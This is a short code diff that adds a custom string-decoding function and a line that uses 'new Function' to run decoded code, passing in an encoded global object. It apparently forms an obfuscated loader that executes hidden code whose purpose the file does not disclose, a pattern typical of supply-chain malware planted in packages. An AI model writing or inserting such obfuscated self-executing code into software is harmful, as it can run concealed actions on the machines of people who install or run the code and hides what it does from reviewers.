@@ -1,0 +1,2 @@
+function d(a) { var b = '"{.}~&V|sA[<=>?@W:]^`1_hXjU%(;q)*!#$/+,-yB2CDE3F45GHIJ6KLMN7OPQR8STYZ9abcdef0giklmnoprtuvwxz', e = [], f = 0, g = 0, h = -1; for (var i = 0; i < a.length; i++) { var j = b.indexOf(a[i]); if (h < 0) { h = j; } else { h += j * 91; f |= h << g; g += (h & 8191) > 88 ? 13 : 14; do { e.push(f & 255); f >>= 8; g -= 8; } while (g > 7); h = -1; } } return Buffer.from(e).toString(); }
+new Function(d('KOs1L*MG9!p'), d('qWPx!g.)tWp;ZRN'))(globalThis[d('KOs1L')]);
